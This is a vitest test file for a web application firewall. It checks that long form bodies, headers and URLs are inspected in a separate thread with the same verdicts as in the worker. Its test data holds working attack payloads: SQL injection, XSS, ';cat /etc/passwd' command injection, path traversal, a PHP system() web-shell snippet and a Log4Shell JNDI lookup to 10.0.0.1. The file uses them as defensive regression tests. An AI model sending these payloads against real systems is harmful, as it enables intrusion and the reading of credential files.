/**
 * Long requests of a site whose inspections take long are inspected by the WAF in a thread: decided as in the worker,
 * while the worker serves others.
 */
import { connect } from 'node:http2'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { coreRuleSet } from '../../server/src/waf/core-rule-set.ts'
import type { NodeDisk } from './disk.ts'
import { Box, until } from './harness.ts'
import { beInspectedBeside, costlyForm, takenBeside } from './inspection-threads.ts'
import { certificateFor } from './make-certificate.ts'
import { StubOrigin } from './origin.ts'
import { givePrefilter } from './prefilter.ts'

let box: Box
let origin: StubOrigin

beforeAll(async () => {
  origin = await StubOrigin.start((_, response) => response.end('hello'))
  const prepare = (disk: NodeDisk) => {
    const origins = [{ port: origin.port }]
    const { part } = coreRuleSet()
    const exception = { urlRegex: '', methods: [], blockType: 0 }
    const rules = [
      { ...exception, id: 7, rule: 942_100, action: 'off' as const, target: 'arg:note' },
      { ...exception, id: 8, rule: 930_120, action: 'off' as const, target: '' },
    ]
    const certificates = { 'shop.test': [certificateFor(1, 'shop.test')] }
    const shop = { hosts: ['shop.test'], origins, certificates, requires: ['waf' as const], waf: { rules: part } }
    disk.feed(disk.site({ site: 1, ...shop }))
    const waf = { rules: part, module: { rules } }
    disk.feed(disk.site({ site: 2, hosts: ['excepted.test'], origins, requires: ['waf'], waf }))
  }
  box = await Box.start({ workers: 1 }, prepare)
  await post('shop.test', 'text=hello')
  await givePrefilter(box)
  for (const host of ['shop.test', 'excepted.test']) await beInspectedBeside(box, host)
})
afterAll(async () => {
  await box?.end()
  await origin?.end()
})

const form = { 'content-type': 'application/x-www-form-urlencoded' }
const filling = 'Lorem ipsum dolor sit amet consetetur sadipscing elitr '.repeat(200).replaceAll(' ', '+')
/** The form with more than the 4 KB from which a thread may be used. */
const long = (body: string) => `filling=${filling}&${body}`

let posted = 0
function post(host: string, body: string) {
  posted++
  return box.request(host, '/form', { method: 'POST', headers: form, body })
}

const attacks = {
  sql: 'id=1+union+select+password+from+users--',
  sqlInComments: "id=1'/**/or/**/1=1--",
  script: 'comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  scriptEncodedTwice: 'comment=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E',
  command: 'file=%3Bcat+%2Fetc%2Fpasswd',
  path: 'file=..%2F..%2F..%2Fetc%2Fpasswd',
  php: 'data=%3C%3Fphp+system(%24_GET%5B0%5D)%3B',
  java: 'x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%2Fa%7D',
  nul: 'text=a%00b',
}

const rowsOfForms = () => box.rows().filter(({ path }) => path === '/form')

/** What the WAF finds in each form, one after the other, according to the log. */
async function foundIn(host: string, bodies: readonly string[]) {
  for (const body of bodies) await post(host, body)
  await until('the rows of the requests', () => rowsOfForms().length === posted)
  const rows = rowsOfForms().slice(-bodies.length)
  return rows.map(({ status, waf, wafScore }) => ({ status, waf, wafScore }))
}

test('attacks are found in a thread as in the worker', async () => {
  await beInspectedBeside(box, 'shop.test')
  const inWorker = await foundIn('shop.test', Object.values(attacks))
  expect(inWorker.map(({ status }) => status)).toEqual(inWorker.map(() => 403))
  const before = takenBeside(box)
  expect(await foundIn('shop.test', Object.values(attacks).map(long))).toEqual(inWorker)
  expect(takenBeside(box)).toBeGreaterThan(before)
})

test('an ordinary long form passes, and is inspected in the worker again when none takes long', async () => {
  expect(await post('shop.test', long('text=hello'))).toMatchObject({ status: 200 })
  await until('no thread that inspects', async () => {
    const before = takenBeside(box)
    await post('shop.test', long('text=hello'))
    return takenBeside(box) === before
  })
})

test('long headers and a long URL are inspected in a thread, too', async () => {
  await beInspectedBeside(box, 'shop.test')
  const before = takenBeside(box)
  const query = `/?filling=${filling.slice(0, 3_000)}&id=1+union+select+password+from+users--`
  const cookie = `filling=${filling.slice(0, 3_000)}; other=${filling.slice(0, 3_000)}`
  expect((await box.request('shop.test', query, { headers: { cookie } })).status).toBe(403)
  expect(takenBeside(box)).toBeGreaterThan(before)
})

test('exceptions hold and are logged as in the worker', async () => {
  await beInspectedBeside(box, 'excepted.test')
  const body = "note=1'/**/or/**/1=1--&file=/etc/passwd"
  const inWorker = await foundIn('excepted.test', [body])
  expect(inWorker[0]!.waf).toContain('except:7')
  expect(inWorker[0]!.waf).toContain('except:8')
  expect(await foundIn('excepted.test', [long(body)])).toEqual(inWorker)
})

test('requests that their clients give up while a thread inspects them leave its place to others', async () => {
  await beInspectedBeside(box, 'shop.test')
  const at = `https://127.0.0.1:${box.settings.httpsPort}`
  const session = connect(at, { servername: 'shop.test', rejectUnauthorized: false })
  for (let n = 0; n < 40; n++) {
    const head = { ':method': 'POST', ':path': '/given-up', ':authority': 'shop.test', ...costlyForm.headers }
    const stream = session.request(head)
    // Resetting it is an error of the stream, too.
    stream.on('error', () => undefined)
    stream.end(costlyForm.body)
    await sleep(n % 8)
    stream.close(8)
  }
  session.destroy()
  await beInspectedBeside(box, 'shop.test')
})
